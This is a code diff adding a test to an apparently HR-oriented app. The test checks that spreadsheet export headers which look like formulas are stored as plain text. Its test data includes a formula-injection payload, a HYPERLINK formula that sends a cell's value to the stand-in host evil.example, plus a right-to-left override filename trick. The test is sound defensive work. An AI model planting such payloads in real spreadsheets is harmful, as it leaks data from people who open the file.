@@ -98,3 +98,13 @@ def test_import_templates_download_under_chinese_names(client, make_user, fmt):
     if fmt == "xlsx":
         sheet = openpyxl.load_workbook(io.BytesIO(people.data)).active
         assert sheet.freeze_panes == "A2" and sheet["A2"].number_format == "@"  # 工号 typed stays text
+
+
+def test_a_header_that_looks_like_a_formula_stays_text(app):
+    """A header may carry a name someone typed (a quarter's, a dimension's): openpyxl
+    wrote "=HYPERLINK(…)" there as a formula, which Excel runs when HR opens the file."""
+    headers = ["工号", '=HYPERLINK("https://evil.example/?d="&B2,"点击")', "+1", "@SUM(1)", "名\u202egnp"]
+    with app.test_request_context(), force_locale("zh_CN"):
+        sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx("名单", headers, [["T1", "x", "y", "z", "w"]]))).active
+    assert [c.data_type for c in sheet[1]] == ["s"] * 5
+    assert sheet["B1"].value.startswith("=HYPERLINK") and sheet["E1"].value == "名[U+202E]gnp"
